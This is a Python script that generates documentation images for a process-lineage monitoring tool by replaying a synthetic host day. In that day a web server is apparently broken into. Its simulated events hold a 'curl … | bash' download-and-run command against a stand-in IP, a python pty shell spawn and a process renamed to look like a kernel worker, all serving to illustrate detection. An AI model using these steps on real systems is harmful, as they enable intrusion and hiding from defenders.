"""Makes the pictures in this folder, and the examples of the README; with ``--check`` says whether they are up to date.

A small made-up host is recorded, replayed through the real flow into a real store, and shown by the code that shows it
to a user. Rules: nothing is drawn here; the same code gives the same bytes, on any machine, at any time.

    feed.svg    what `lineage run` prints
    tree.svg    what `lineage tree` prints

    python docs/images/make.py [--check]        from the checkout's own folder
"""

from __future__ import annotations

import io
import os
import re
import sys
import tempfile
import time
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import NamedTuple

import anyio
from rich.console import Console
from rich.text import Text

from pipeline.api.answers import Answers
from pipeline.config import Config
from pipeline.counters import Counters
from pipeline.enrich import Describer
from pipeline.enrich.masking import Masker
from pipeline.events import Exec
from pipeline.flow import Flow
from pipeline.process import ProcessVersion
from pipeline.query.base import Fields
from pipeline.query.forest import fold_kernel_threads, grow
from pipeline.query.lineage_query import parse
from pipeline.query.store import StoreArchive
from pipeline.sinks.outbox import open_outbox
from pipeline.sinks.store import StoreSink
from pipeline.sources.recording import Recorder, RecordingSource
from pipeline.sources.synthetic import OFFSET_NS, Process, Synthetic
from pipeline.tree import ProcessTree
from pipeline.view import forest, table, timeline
from pipeline.view.live import Feed

FOLDER = Path(__file__).resolve().parent
BEGIN = datetime(2026, 3, 2, 12, 14, 3, 470_000, UTC)
SECOND_NS = 1_000_000_000
MILLISECOND_NS = 1_000_000
WWW_DATA, ALICE = 33, 1000
PTS_0 = 136 << 20
QUESTION = "nginx → bash"
REMEMBERED = 9015
WIDTH = 112
ANSWER_WIDTH = 122
FONT_FROM_ELSEWHERE = re.compile(r"\s*@font-face \{.*?\n    \}", re.DOTALL)


class Shown(NamedTuple):
    feed: list[Text]
    found: list[Fields]  # the answer to QUESTION
    newest: list[Fields]  # the newest document of each process
    versions: list[Fields]  # all that the process REMEMBERED has been, as an agent answers


def day() -> Synthetic:
    """A web server that is broken into, an administrator at work, a job of cron."""
    begin_ns = int(BEGIN.timestamp()) * SECOND_NS + BEGIN.microsecond * 1000 - OFFSET_NS
    s = Synthetic(now_ns=begin_ns, step_ns=1000)
    for number, name in ((0, "root"), (WWW_DATA, "www-data"), (ALICE, "alice")):
        s.account(number, name)
    init = s.running("/usr/lib/systemd/systemd", ("/sbin/init",), pid=1, start_ns=SECOND_NS)
    s.running("kthreadd", pid=2, start_ns=SECOND_NS, kernel_thread=True)
    s.running("/usr/lib/systemd/systemd-journald", pid=288, parent=init, start_ns=3 * SECOND_NS)
    cron = s.running("/usr/sbin/cron", ("/usr/sbin/cron", "-f"), pid=602, parent=init, start_ns=5 * SECOND_NS)
    sshd = s.running("/usr/sbin/sshd", ("/usr/sbin/sshd", "-D"), pid=655, parent=init, start_ns=6 * SECOND_NS)
    nginx = s.running(
        "/usr/sbin/nginx",
        ("nginx", "-g", "daemon off;"),
        pid=712,
        parent=init,
        start_ns=7 * SECOND_NS,
        uid=WWW_DATA,
        gid=WWW_DATA,
    )
    s.snapshot_end()

    web_shell(s, nginx)
    at_work(s, sshd)
    job(s, cron)
    return s


def pause(s: Synthetic, milliseconds: int) -> None:
    s.now_ns += milliseconds * MILLISECOND_NS


def web_shell(s: Synthetic, nginx: Process) -> None:
    bash = s.spawn(nginx, "/usr/bin/bash", ("bash", "-c", "curl -s 203.0.113.50/s | bash"), pid=9010)
    pause(s, 11)
    curl = s.spawn(bash, "/usr/bin/curl", ("curl", "-s", "203.0.113.50/s"), pid=9012)
    stage2 = s.spawn(bash, "/usr/bin/bash", ("bash",), pid=9013)
    pause(s, 172)
    s.exit(curl)
    pause(s, 6)
    identity = s.spawn(stage2, "/usr/bin/id", ("id",), pid=9014)
    pause(s, 2)
    s.exit(identity)
    python = s.fork(stage2, pid=9015)
    code = ("python3", "-c", "import pty;pty.spawn('sh')")
    s.exec(python, "/usr/bin/python3.11", code, filename="/usr/bin/python3")
    pause(s, 23)
    sh = s.fork(python, pid=9016, tty=PTS_0 + 1)
    s.exec(sh, "/usr/bin/dash", ("sh",), filename="/usr/bin/sh")
    pause(s, 2310)
    python.comm = "kworker/u8:2"
    s.rename(python)


def at_work(s: Synthetic, sshd: Process) -> None:
    session = s.spawn(sshd, "/usr/sbin/sshd", ("sshd: alice [priv]",), pid=9031)
    pause(s, 340)
    shell = s.fork(session, pid=9040, uid=ALICE, gid=ALICE, tty=PTS_0)
    shell.session = shell.group = shell
    s.exec(shell, "/usr/bin/bash", ("-bash",), working_directory="/home/alice")
    pause(s, 4120)
    status = s.spawn(shell, "/usr/bin/git", ("git", "status"), pid=9044)
    pause(s, 12)
    s.exit(status)
    pause(s, 1530)
    make = s.spawn(shell, "/usr/bin/make", ("make", "-j4"), pid=9047)
    pause(s, 9)
    cc = s.spawn(make, "/usr/bin/gcc", ("gcc", "-O2", "-c", "main.c"), pid=9048)
    pause(s, 3)
    s.spawn(cc, "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", ("cc1", "-quiet", "main.c"), pid=9049)
    pause(s, 780)


def job(s: Synthetic, cron: Process) -> None:
    child = s.spawn(cron, "/usr/sbin/cron", ("/usr/sbin/CRON", "-f"), pid=9060)
    pause(s, 2)
    shell = s.spawn(child, "/bin/sh", ("/bin/sh", "-c", "backup /srv"), pid=9061)
    pause(s, 1)
    backup = s.spawn(shell, "/usr/local/bin/backup", ("backup", "/srv"), pid=9062)
    pause(s, 95)
    s.exit(backup, 2 << 8)
    s.exit(shell, 2 << 8)


async def replay(stream: Synthetic, folder: Path) -> Shown:
    """As `lineage replay --sink store:FILE` does it, with the feed of `lineage run` beside it."""
    recorder = Recorder(folder / "recording")
    recorder.write(stream.records)
    recorder.close()

    config, counters = Config(state_directory=folder), Counters()
    sink = StoreSink(folder / "events.db", config.store_max_bytes, counters)
    sink.open()
    outbox = open_outbox(sink, config, counters, block=True)
    describer = Describer(config.namespace, config.mask_patterns, counters)
    feed = Feed(
        Console(file=sys.stderr),
        counters,
        wall_ns=describer.tables.wall_ns,
        user_name=describer.tables.user_of,
        mask=Masker(config.mask_patterns).mask,
        status=str,
        reader_gone=lambda: None,
    )
    lines: list[Text] = []

    def watch(event: Exec, process: ProcessVersion) -> None:
        lines.append(feed.line(event, process))

    source = RecordingSource(folder / "recording")
    tree = ProcessTree(config.processes_max, config.threads_max, counters)
    flow = Flow(source, tree, describer, outbox, counters, shutdown_s=60.0, watch=watch)
    await flow.run()
    await source.aclose()
    await outbox.aclose()
    if counters.bad_transitions or counters.dropped or counters.delivered != counters.documents:
        raise RuntimeError(f"the example is no good: {counters}")

    archive = StoreArchive(folder / "events.db")
    found = await archive.find(parse(QUESTION), BEGIN.replace(hour=0), 100)
    kept = await archive.processes(BEGIN.replace(hour=0), BEGIN.replace(hour=23), None)
    answers = Answers(describer)
    known = tree.versions(tree.by_pid(REMEMBERED).process.entity_id)
    return Shown(lines, found.documents, kept.documents, [answers.version(version) for version in known])


def shown() -> Shown:
    os.environ["TZ"] = "UTC"
    time.tzset()
    with tempfile.TemporaryDirectory() as folder:
        return anyio.run(replay, day(), Path(folder))


def terminal(width: int = WIDTH) -> Console:
    """One that is the same everywhere, and keeps what is printed."""
    return Console(
        file=io.StringIO(),
        record=True,
        force_terminal=True,
        color_system="truecolor",
        legacy_windows=False,
        width=width,
        highlight=False,
        _environ={},
    )


def pictures(of: Shown) -> dict[str, str]:
    """Each file of this folder and what belongs into it."""
    feed, tree = terminal(), terminal()
    for line in of.feed:
        feed.print(line, soft_wrap=True)
    forest.show(tree, fold_kernel_threads(grow(of.newest)))
    return {"feed.svg": drawn(feed, "feed", "lineage run"), "tree.svg": drawn(tree, "tree", "lineage tree")}


def drawn(console: Console, name: str, title: str) -> str:
    """rich's own picture, without the fonts it would fetch over the network."""
    return FONT_FROM_ELSEWHERE.sub("", console.export_svg(title=title, unique_id=name)) + "\n"


def answer(of: Shown) -> list[str]:
    """What `lineage search QUESTION` prints on a terminal, without colours."""
    console = terminal(ANSWER_WIDTH)
    table.show(console, [table.row(document) for document in of.found])
    return [line.rstrip() for line in console.export_text().splitlines()]


def history(of: Shown) -> list[str]:
    """What `lineage show REMEMBERED --history` prints on a terminal, without colours."""
    console = terminal(ANSWER_WIDTH)
    timeline.show(console, of.versions)
    return [line.rstrip() for line in console.export_text().splitlines()]


def main(arguments: Sequence[str]) -> int:
    if list(arguments) not in ([], ["--check"]):
        sys.stderr.write("usage: make.py [--check]\n")
        return 2
    made = pictures(shown())
    stale = [
        name
        for name, text in made.items()
        if not (FOLDER / name).is_file() or (FOLDER / name).read_text(encoding="utf-8") != text
    ]
    for name in stale:
        if arguments:
            sys.stderr.write(f"{name} is not what is printed today: python docs/images/make.py\n")
        else:
            (FOLDER / name).write_text(made[name], encoding="utf-8")
    return 1 if arguments and stale else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
